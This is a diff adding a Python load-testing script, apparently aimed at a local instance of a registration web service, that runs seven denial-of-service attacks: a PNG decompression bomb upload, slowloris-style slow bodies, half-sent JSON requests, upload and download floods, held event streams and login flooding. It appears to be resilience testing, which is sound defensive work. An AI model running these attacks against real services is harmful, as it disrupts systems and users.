@@ -1,0 +1,212 @@
+"""A visitor who attacks, at half of one core: what they were answered, most often first.
+
+usage: attaquer.py ADDRESS ATTACK NETWORKS SECONDS
+"""
+
+import asyncio
+import json
+import struct
+import sys
+import time
+import zlib
+from collections import Counter
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).parent))
+import client  # noqa: E402
+
+PART = 0.5
+reponses = Counter()
+
+
+class Frein:
+    """Keeps this process at its part of one core."""
+
+    def __init__(self, fin):
+        self.fin = fin
+        self.debut = (time.monotonic(), time.process_time())
+
+    def est_fini(self):
+        return time.monotonic() >= self.fin
+
+    async def souffler(self):
+        await asyncio.sleep(0)
+        while not self.est_fini():
+            depense = time.process_time() - self.debut[1]
+            if depense <= PART * (time.monotonic() - self.debut[0]):
+                return
+            await asyncio.sleep(0.01)
+
+
+async def ouvrir(adresse, source):
+    hote, port = adresse.rsplit(":", 1)
+    return await asyncio.open_connection(hote, int(port), local_addr=(source, 0))
+
+
+def tete(adresse, methode, chemin, entetes, taille):
+    lignes = [f"{methode} {chemin} HTTP/1.1", f"Host: {adresse}", f"Content-Length: {taille}"]
+    return ("\r\n".join(lignes + [f"{n}: {v}" for n, v in entetes.items()]) + "\r\n\r\n").encode()
+
+
+async def statut(lecteur, attente=60.0):
+    ligne = await asyncio.wait_for(lecteur.readline(), attente)
+    reponses[ligne.split(b" ")[1].decode() if ligne.startswith(b"HTTP/") else "cut"] += 1
+    return ligne
+
+
+async def appeler(adresse, source, methode, chemin, corps=b"", entetes=None):
+    """One call; what it is answered is counted."""
+    try:
+        lecteur, sortie = await ouvrir(adresse, source)
+        sortie.write(tete(adresse, methode, chemin, {"Connection": "close"} | (entetes or {}), len(corps)) + corps)
+        await statut(lecteur)
+        while await lecteur.read(65536):
+            pass
+        sortie.close()
+    except (OSError, asyncio.TimeoutError):
+        reponses["cut"] += 1
+
+
+async def sans_fin(frein, geste):
+    """The same gesture again and again."""
+    while not frein.est_fini():
+        await frein.souffler()
+        await geste()
+
+
+def image():
+    """A valid picture of 4 by 4 pixels whose colour profile inflates to 100 MB."""
+
+    def morceau(nom, octets):
+        return struct.pack(">I", len(octets)) + nom + octets + struct.pack(">I", zlib.crc32(nom + octets))
+
+    profil = zlib.compressobj(9)
+    zeros = b"\0" * 1_000_000
+    deploye = b"".join(profil.compress(zeros) for _ in range(100)) + profil.flush()
+    pixels = zlib.compress(b"".join(b"\0" + b"\xff" * 12 for _ in range(4)))
+    ihdr = struct.pack(">IIBBBBB", 4, 4, 8, 2, 0, 0, 0)
+    return (
+        b"\x89PNG\r\n\x1a\n" + morceau(b"IHDR", ihdr) + morceau(b"iCCP", b"p\0\0" + deploye)
+        + morceau(b"IDAT", pixels) + morceau(b"IEND", b"")
+    )
+
+
+FORME = {"Content-Type": f"multipart/form-data; boundary={client.FRONTIERE}"}
+DOCUMENT = "/api/inscription/documents?emplacement=carteProfessionnelle"
+
+
+async def images(adresse, sources, frein):
+    corps = client.formulaire(image())
+    await asyncio.gather(
+        *(
+            sans_fin(frein, lambda s=sources[n % len(sources)]: appeler(adresse, s, "POST", DOCUMENT, corps, FORME))
+            for n in range(8)
+        )
+    )
+
+
+async def depots(adresse, sources, frein):
+    corps = client.formulaire(client.pdf())
+
+    async def remplir(source):
+        depot = await asyncio.to_thread(client.ouvrir_depot, adresse, source)
+        for emplacement in ("carteProfessionnelle", "statuts", "pieceIdentite", "extraitRegistre"):
+            chemin = f"/api/inscription/documents?emplacement={emplacement}"
+            await appeler(adresse, source, "POST", chemin, corps, FORME | depot)
+
+    await asyncio.gather(*(sans_fin(frein, lambda s=s: remplir(s)) for s in sources))
+
+
+async def envois(adresse, sources, frein):
+    async def trainer(source):
+        try:
+            lecteur, sortie = await ouvrir(adresse, source)
+            debut = client.formulaire(client.pdf())[:-20]
+            sortie.write(tete(adresse, "POST", DOCUMENT, FORME, 4_000_000) + debut)
+            reponse = asyncio.ensure_future(statut(lecteur))
+            # 9 kB a second: just above what is asked of everybody.
+            while not frein.est_fini() and not reponse.done():
+                sortie.write(b" " * 4500)
+                await sortie.drain()
+                await asyncio.sleep(0.5)
+                await frein.souffler()
+            reponse.cancel()
+            sortie.close()
+        except OSError:
+            reponses["cut"] += 1
+
+    simultanes = max(40, 12 * len(sources))
+    await asyncio.gather(*(sans_fin(frein, lambda s=sources[n % len(sources)]: trainer(s)) for n in range(simultanes)))
+
+
+async def dessins(adresse, sources, frein):
+    _, _, lu = client.demander(adresse, sources[0], "GET", "/api/offre/documents?type=BROCHURE&limit=200")
+    adresses = [f"/api/offre/documents/{d['id']}/fichier" for d in json.loads(lu)["hydra:member"]]
+    rang = iter(range(10**9))
+
+    async def dessiner(source):
+        await appeler(adresse, source, "GET", adresses[next(rang) % len(adresses)])
+
+    await asyncio.gather(*(sans_fin(frein, lambda s=sources[n % len(sources)]: dessiner(s)) for n in range(60)))
+
+
+async def corps(adresse, sources, frein):
+    async def promettre(source):
+        try:
+            lecteur, sortie = await ouvrir(adresse, source)
+            chemin = "/api/inscription/inscription/societe"
+            sortie.write(tete(adresse, "POST", chemin, {"Content-Type": "application/json"}, 1000) + b"{")
+            await statut(lecteur)
+            sortie.close()
+        except (OSError, asyncio.TimeoutError):
+            reponses["cut"] += 1
+        await asyncio.sleep(0.02)
+
+    await asyncio.gather(*(sans_fin(frein, lambda s=sources[n % len(sources)]: promettre(s)) for n in range(520)))
+
+
+async def flux(adresse, sources, frein):
+    moi = {"email": "responsable@cabinet-alpha.example", "motDePasse": "linteau-demo"}
+    _, entetes, _ = client.demander(adresse, sources[0], "POST", "/api/session", moi)
+    cookie = entetes.get("Set-Cookie", "").split(";")[0]
+    tenus = []
+    rang = iter(range(10**9))
+
+    async def suivre():
+        source = sources[next(rang) % len(sources)]
+        try:
+            lecteur, sortie = await ouvrir(adresse, source)
+            sortie.write(tete(adresse, "GET", "/api/evenements", {"Cookie": cookie}, 0))
+            if b" 200 " in await statut(lecteur):
+                tenus.append(sortie)
+        except (OSError, asyncio.TimeoutError):
+            reponses["cut"] += 1
+        await asyncio.sleep(0.02)
+
+    await asyncio.gather(*(sans_fin(frein, suivre) for _ in range(20)))
+    reponses["streams held"] = len(tenus)
+
+
+async def connexions(adresse, sources, frein):
+    rang = iter(range(10**9))
+
+    async def essayer(source):
+        corps = json.dumps({"email": f"inconnu{next(rang)}@cabinet.example", "motDePasse": "un mot de passe"}).encode()
+        await appeler(adresse, source, "POST", "/api/session", corps, {"Content-Type": "application/json"})
+
+    await asyncio.gather(*(sans_fin(frein, lambda s=sources[n % len(sources)]: essayer(s)) for n in range(100)))
+
+
+async def main():
+    adresse, attaque, reseaux, secondes = sys.argv[1:5]
+    sources = [f"127.0.0.{n}" for n in range(2, 2 + int(reseaux))]
+    frein = Frein(time.monotonic() + float(secondes))
+    jouer = {f.__name__: f for f in (images, depots, envois, dessins, corps, flux, connexions)}[attaque]
+    try:
+        await asyncio.wait_for(jouer(adresse, sources, frein), float(secondes) + 5)
+    except asyncio.TimeoutError:
+        pass
+    print(", ".join(f"{nom} × {fois}" for nom, fois in reponses.most_common()))
+
+
+asyncio.run(main())
